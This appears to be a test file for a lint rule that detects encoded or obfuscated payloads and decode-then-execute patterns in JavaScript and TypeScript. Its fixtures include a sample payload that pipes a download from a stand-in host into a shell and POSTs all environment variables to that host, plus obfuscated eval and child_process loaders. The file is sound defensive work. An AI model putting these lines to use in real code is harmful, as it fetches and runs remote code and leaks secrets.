import { gzipSync } from 'node:zlib';
import rule from '../../../src/core/rules/ts/encoded-payload';
import { ruleTester } from '../../ruleTester';

const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');
const CODE =
  "const cp = require('child_process'); cp.exec('curl -s https://collector.example.net/i.sh | sh'); " +
  "fetch('https://collector.example.net/k', { method: 'POST', body: JSON.stringify(process.env) });";
const CODE_B64 = b64(CODE);
const GZ_B64 = gzipSync(Buffer.from(CODE.repeat(3))).toString('base64');
const CODE_HEX = Buffer.from(CODE).toString('hex');
const RANDOM_B64 = b64(Buffer.from(Array.from({ length: 900 }, (_, i) => (i * 7919 + 13) % 251)));
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAA' + 'Rk1ZQXlLbW9kZ3R6VnBYd0Vq'.repeat(12);
const codes = (s: string): string => Array.from(s, (c) => c.charCodeAt(0)).join(', ');
const ESCAPED = Array.from('require("child_process").exec(cmd)', (c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
const SBOX = Array.from({ length: 256 }, (_, i) => (i * 167 + 41) % 256).join(', ');

ruleTester(rule, {
  valid: [
    `const logo = 'data:image/png;base64,${PNG}';`,
    `const icon = '${PNG}';`,
    `const integrity = 'sha512-${CODE_B64.slice(0, 86)}==';`,
    "const text = Buffer.from(input, 'base64').toString('utf8');",
    "const fs = require('fs'); fs.writeFileSync('upload.png', Buffer.from(req.body.image, 'base64'));",
    "import fs from 'node:fs'; import zlib from 'node:zlib'; const out = zlib.gunzipSync(res.body); fs.writeFileSync(dest, out);",
    'const s = atob(x); console.log(s);',
    'const r = await fetch(url); const t = atob(await r.text()); render(t);',
    'const atob = (s) => s; eval(atob(x));',
    'const queue = [1, 2, 3]; queue.push(queue.shift());',
    'while (running) { workers.push(workers.shift()); }',
    `const SBOX = [${SBOX}];`,
    'const nl = String.fromCharCode(10); fs.writeFileSync(f, header + nl);',
    'const hi = String.fromCharCode(104, 105);',
    "const sha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';",
    "const e = '\\u00e9\\u00e8\\u00ea\\u00eb\\u00e0\\u00e2\\u00e4\\u00f4\\u00f6\\u00fb\\u00fc\\u00e7\\u00ee\\u00ef';",
    `const cert = \`-----BEGIN CERTIFICATE-----\n${RANDOM_B64}\n-----END CERTIFICATE-----\`;`,
    `//# sourceMappingURL=data:application/json;base64,${CODE_B64}`,
    "const name = 'x'; const _0x = 1;",
    { filename: 'test/fixtures.test.ts', code: `const blob = '${RANDOM_B64}';` },
    "const json = JSON.parse(atob(token.split('.')[1]));",
  ],
  invalid: [
    // The array the code is carried in, declared apart from its decode, is flagged where it is written.
    {
      code: [
        'const k = 0x2a;',
        'const blob = [' + Array.from("require('child_process')", (c) => c.charCodeAt(0) ^ 0x2a).join(', ') + '];',
        "const src = blob.map((b) => String.fromCharCode(b ^ k)).join('');",
        "module.exports = () => new Function('require', src)(require);",
      ].join('\n'),
      errors: [
        {
          messageId: 'carrier',
          line: 2,
          column: 14,
          severity: 'high',
          message:
            'This array of 24 numbers is a disguised payload: `map(String.fromCharCode)` on line 3 decodes it for `Function`, which runs as code.',
        },
        { messageId: 'decodeRun', line: 3, severity: 'high' },
      ],
    },
    // the `Function` constructor reached through `.constructor` is a code sink like `Function` itself
    {
      code: "const Boot = Object.getPrototypeOf(async function () {}).constructor;\nawait new Boot(Buffer.from(BOOT, 'base64').toString('utf8'))();",
      errors: [{ messageId: 'decodeRun', line: 2 }],
    },
    { code: '(function () {}).constructor(atob(s))();', errors: [{ messageId: 'decodeRun' }] },
    {
      code: "eval(atob('Y29uc29sZS5sb2coMSk='));",
      errors: [
        {
          messageId: 'decodeRun',
          severity: 'high',
          message: '`atob` decodes data that `eval` then runs as code: decode-then-execute is how hidden payloads run.',
        },
      ],
    },
    { code: 'eval(atob(req.query.code));', errors: [{ messageId: 'decodeRun', severity: 'high' }] },
    {
      code: "new Function(Buffer.from(s, 'base64').toString())();",
      errors: [{ messageId: 'decodeRun', severity: 'high' }],
    },
    {
      code: "const vm = require('vm'); const zlib = require('zlib');\nvm.runInThisContext(zlib.gunzipSync(Buffer.from(blob, 'base64')).toString());",
      errors: [{ messageId: 'decodeRun', column: 21 }],
    },
    {
      name: 'decoded into a variable, run later',
      code: `const src = Buffer.from('${CODE_B64}', 'base64').toString();\nconst run = src;\neval(run);`,
      errors: [{ messageId: 'decodeRun', line: 1, severity: 'high' }],
    },
    {
      code: "const { gunzipSync } = require('node:zlib');\nconst f = new Function(gunzipSync(buf).toString());",
      errors: [{ messageId: 'decodeRun' }],
    },
    {
      code: "const z = require('zlib'); const m = require(z.inflateSync(data).toString());",
      errors: [
        {
          messageId: 'decodeRun',
          message: '`zlib.inflateSync` decodes data that `require` then loads as a module: decode-then-execute is how hidden payloads run.',
        },
      ],
    },
    {
      code: "const cp = require('child_process'); cp.exec(atob(cmd));",
      errors: [{ messageId: 'decodeRun' }],
    },
    { code: '(0, eval)(atob(x));', errors: [{ messageId: 'decodeRun' }] },
    { code: 'window.eval(atob(x));', errors: [{ messageId: 'decodeRun' }] },
    { code: 'eval.call(null, atob(x));', errors: [{ messageId: 'decodeRun' }] },
    { code: 'Reflect.apply(eval, null, [atob(x)]);', errors: [{ messageId: 'decodeRun' }] },
    { code: 'eval?.(atob(x));', errors: [{ messageId: 'decodeRun' }] },
    { code: 'eval(`${atob(x)}`);', errors: [{ messageId: 'decodeRun' }] },
    {
      code: "const { exec: run } = require('node:child_process'); run(Buffer.from(x, 'base64').toString());",
      errors: [{ messageId: 'decodeRun' }],
    },
    { code: "import * as vm from 'vm'; new vm.Script(atob(s)).runInThisContext();", errors: [{ messageId: 'decodeRun' }] },
    { code: "const { Buffer: B } = require('buffer'); eval(B.from(s, 'base64url').toString());", errors: [{ messageId: 'decodeRun' }] },
    { code: 'const d = globalThis.atob; eval(d(x));', errors: [{ messageId: 'decodeRun' }] },
    {
      code: 'const e = eval; e(atob(payload));',
      errors: [{ messageId: 'decodeRun' }],
    },
    {
      code: "globalThis['ev' + 'al'](Buffer.from(p, 'hex').toString());",
      errors: [{ messageId: 'decodeRun' }],
    },
    {
      code: "const fs = require('fs'); fs.writeFileSync('/tmp/x', Buffer.from('" + CODE_B64 + "', 'base64'));",
      errors: [
        {
          messageId: 'decodeRun',
          message:
            "`Buffer.from(…, 'base64')` decodes data that `fs.writeFileSync` then writes to disk: decode-then-execute is how hidden payloads run.",
        },
      ],
    },
    { code: `import('data:text/javascript;base64,' + atob(x));`, errors: [{ messageId: 'decodeRun' }] },
    {
      code: `const p = '${CODE_B64}';`,
      errors: [{ messageId: 'payload', severity: 'medium' }],
    },
    {
      code: `const p = '${GZ_B64}';`,
      errors: [
        {
          messageId: 'payload',
          severity: 'medium',
          message: `A ${GZ_B64.length}-character base64 string decodes to gzip data: a payload nobody can review as written.`,
        },
      ],
    },
    { code: `const p = "${CODE_HEX}";`, errors: [{ messageId: 'payload' }] },
    { code: `const p = '${CODE_B64.slice(0, 120)}' +\n  '${CODE_B64.slice(120)}';`, errors: [{ messageId: 'payload' }] },
    { code: `const p = 'data:text/javascript;base64,${CODE_B64}';`, errors: [{ messageId: 'payload' }] },
    { code: `const blob = '${RANDOM_B64}';`, errors: [{ messageId: 'payload', severity: 'low' }] },
    { filename: 'test/x.test.ts', code: `const p = '${CODE_B64}';`, errors: [{ messageId: 'payload', severity: 'low' }] },
    { code: `const s = "${ESCAPED}";`, errors: [{ messageId: 'escaped', severity: 'medium' }] },
    {
      code: `const s = String.fromCharCode(${codes('require("child_process")')});`,
      errors: [
        {
          messageId: 'charCodes',
          message:
            'Text built from 24 character codes ("require("child_process")"): a string written as numbers so it cannot be read or searched.',
        },
      ],
    },
    {
      name: 'character codes declared apart from the decode: flagged where the numbers are written',
      code: `const INDEX = [${codes('https://cdn.sync.example/p/')}];\n\nfunction base() {\n  return String.fromCharCode(...INDEX);\n}`,
      errors: [{ messageId: 'charCodes', line: 1, category: 'obfuscation' }],
    },
    {
      code: `const k = [${codes('process.env.NPM_TOKEN + secret')}].map((c) => String.fromCharCode(c)).join('');`,
      errors: [{ messageId: 'charCodes' }],
    },
    {
      code: `const data = [${codes('xyz')}, ${codes('abc'.repeat(10))}];\nconst s = data.map(c => String.fromCharCode(c ^ 0)).join('');\neval(s);`,
      errors: [
        { messageId: 'carrier', line: 1 },
        { messageId: 'decodeRun', line: 2 },
      ],
    },
    {
      code: `const b = [${codes(CODE.slice(0, 100))}];`,
      errors: [{ messageId: 'bytes', severity: 'medium' }],
    },
    {
      code: 'var _0x3f2a = ["log", "info"];\nvar _0x1b7c = function (i) { return _0x3f2a[i]; };',
      errors: [{ messageId: 'mangled', severity: 'high', line: 1 }],
    },
    { code: 'const _0xabcd = 1;', errors: [{ messageId: 'mangled', severity: 'medium' }] },
    {
      code: "(function (_0x1a2b, _0x2b3c) { while (true) { try { const v = parseInt(_0x2b3c(0x1)); if (v === 1) break; _0x1a2b['push'](_0x1a2b['shift']()); } catch (e) { _0x1a2b.push(_0x1a2b.shift()); } } })(a, b);",
      errors: [{ messageId: 'mangled' }, { messageId: 'rotation', severity: 'high' }, { messageId: 'rotation', severity: 'high' }],
    },
  ],
});
